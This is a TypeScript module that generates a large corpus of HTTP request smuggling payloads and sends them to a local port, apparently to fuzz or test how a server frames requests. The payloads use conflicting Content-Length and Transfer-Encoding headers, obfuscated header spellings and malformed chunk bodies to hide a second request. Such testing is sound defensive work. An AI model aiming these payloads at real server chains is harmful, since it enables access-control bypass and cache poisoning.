import net from "node:net";

const HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: other.test\r\n\r\n";
const LENGTH = String(HIDDEN.length);
const CHUNK = `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;

/** Spellings of `Transfer-Encoding: chunked` on which servers disagree. */
const CODINGS = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding:\tchunked",
  " Transfer-Encoding: chunked",
  "X: x\r\n Transfer-Encoding: chunked",
  "X: x\nTransfer-Encoding: chunked",
  "X: x\rTransfer-Encoding: chunked",
  "Transfer-Encoding\r\n: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: identity",
  "Transfer-Encoding: cow",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: chunked\x0b",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: CHUNKED",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding\0: chunked",
  "\x00Transfer-Encoding: chunked",
  "Transfer-Encoding: ch\u017funked",
  "Transfer-Encoding:",
  "Content-Encoding: chunked",
];

/** Spellings of Content-Length on which servers disagree. N stands for the length of the hidden request. */
const LENGTHS = [
  "Content-Length: 0\r\nContent-Length: N",
  "Content-Length: N\r\nContent-Length: 0",
  "Content-Length: N\r\nContent-Length: N",
  "Content-Length: N, N",
  "Content-Length: 0, N",
  "Content-Length: +N",
  "Content-Length: -1",
  "Content-Length: 0N",
  "Content-Length: 0x10",
  "Content-Length: N ",
  "Content-Length : N",
  "Content-Length: N\x0b",
  "Content-Length: 1e1",
  "Content-Length: 18446744073709551616",
  "Content-Length: 99999999999999999999999999",
  "Content-Length:",
  "Content-Length:\r\n N",
  " Content-Length: N",
  "X: x\nContent-Length: N",
  "X: x\rContent-Length: N",
  "Content_Length: N",
  "Content-Length: N\r\nConnection: content-length",
  "Content-Length: N\r\nConnection: close, Content-Length, Host",
  "Connection: host\r\nContent-Length: N",
  "Content-Length: N\r\nExpect: 100-continue",
  "Content-Length: N\r\nUpgrade: h2c\r\nConnection: Upgrade",
];

/** Chunked bodies on which servers disagree. */
const BODIES = [
  CHUNK,
  `0\r\n\r\n${HIDDEN}`,
  `0\r\n${HIDDEN}`,
  `0\r\nContent-Length: ${LENGTH}\r\n\r\n${HIDDEN}`,
  `0;x=${"y".repeat(20)}\r\n\r\n${HIDDEN}`,
  `0;\n\r\n\r\n${HIDDEN}`,
  `2;a\nxx\r\n0\r\n\r\n${HIDDEN}`,
  `2\nxx\n0\n\n${HIDDEN}`,
  `0x0\r\n\r\n${HIDDEN}`,
  `-1\r\n\r\n${HIDDEN}`,
  `+0\r\n\r\n${HIDDEN}`,
  ` 0\r\n\r\n${HIDDEN}`,
  `0 \r\n\r\n${HIDDEN}`,
  `\r\n0\r\n\r\n${HIDDEN}`,
  `ffffffffffffffff\r\n${HIDDEN}\r\n0\r\n\r\n`,
  `10000000000000000\r\n${HIDDEN}\r\n0\r\n\r\n`,
  `100000000\r\n${HIDDEN}`,
  `3\r\nabcXX${HIDDEN}`,
  `3\r\nabc0\r\n\r\n${HIDDEN}`,
  `3\r\nabc\n0\r\n\r\n${HIDDEN}`,
  `3\r\nabc\r0\r\n\r\n${HIDDEN}`,
  `0\n\n${HIDDEN}`,
  `0\r\r${HIDDEN}`,
  `\r\n\r\n${HIDDEN}`,
];

const METHODS = ["GET", "POST", "HEAD", "OPTIONS", "DELETE", "TRACE", "PROPFIND"];

/** Request lines and first lines on which servers disagree. */
const LINES = [
  "GET  TARGET HTTP/1.1",
  "GET\tTARGET HTTP/1.1",
  "GET TARGET HTTP/1.1 ",
  "GET TARGET",
  "GET TARGET HTTP/0.9",
  "GET TARGET HTTP/2.0",
  "GET TARGET HTTP/1.10",
  "GET TARGET HTTP/1.1\r\n X: folded",
  "\r\nGET TARGET HTTP/1.1",
  "get TARGET HTTP/1.1",
  "PRI * HTTP/2.0",
  "GET TARGET%0d%0aX:y HTTP/1.1",
  "GET TARGET\x00 HTTP/1.1",
  "GET TARGET\rX:y HTTP/1.1",
];

/**
 * Makes raw requests that servers in a chain frame differently: CL.TE, TE.CL, TE.TE, CL.CL, folded lines, bare line ends,
 * chunk sizes and extensions, names with spaces, and bodies of methods that take no body.
 *
 * @param target request target of the outer request
 * @param fields further header lines of the outer request, each with its line end
 */
export function smugglingCorpus(target: string, fields: string): string[] {
  const made: string[] = [];
  const add = (line: string, frame: string, body: string) =>
    made.push(
      `${line.replaceAll("TARGET", target)}\r\n${fields}${frame === "" ? "" : `${frame}\r\n`}\r\n${body}`,
    );
  for (const method of METHODS) {
    const line = `${method} TARGET HTTP/1.1`;
    add(line, "Transfer-Encoding: chunked", CHUNK);
    add(line, `Content-Length: ${LENGTH}`, HIDDEN);
    add(line, "", HIDDEN);
    add(line, "Connection: transfer-encoding, content-length, host\r\nTransfer-Encoding: chunked", CHUNK);
  }
  for (const method of ["GET", "POST"]) {
    const line = `${method} TARGET HTTP/1.1`;
    for (const coding of CODINGS) {
      add(line, coding, CHUNK);
      add(line, `Content-Length: 4\r\n${coding}`, CHUNK);
      add(line, `${coding}\r\nContent-Length: ${CHUNK.length}`, CHUNK);
      add(`${method} TARGET HTTP/1.0`, coding, CHUNK);
    }
    for (const length of LENGTHS) add(line, length.replaceAll("N", LENGTH), HIDDEN);
    for (const body of BODIES) add(line, "Transfer-Encoding: chunked", body);
  }
  for (const line of LINES) add(line, "", HIDDEN);
  return made;
}

/** Sends bytes on a connection and returns the answer, at most `waitMs` after the last byte that arrived. */
export function exchange(port: number, bytes: string, waitMs = 400): Promise<string> {
  return new Promise((resolve) => {
    let answer = "";
    const socket = net.connect(port, "127.0.0.1", () => socket.write(bytes, "latin1"));
    socket.setTimeout(waitMs, () => socket.destroy());
    socket.on("data", (data) => {
      answer += data.toString("latin1");
    });
    socket.on("error", () => socket.destroy());
    socket.on("close", () => resolve(answer));
  });
}

/** Sends each of these requests on a connection of its own, 16 at a time, and returns the answers. */
export async function exchangeAll(port: number, requests: readonly string[]): Promise<string[]> {
  const answers: string[] = [];
  const left = requests.entries();
  const work = async () => {
    for (const [index, bytes] of left) answers[index] = await exchange(port, bytes);
  };
  await Promise.all(Array.from({ length: 16 }, work));
  return answers;
}
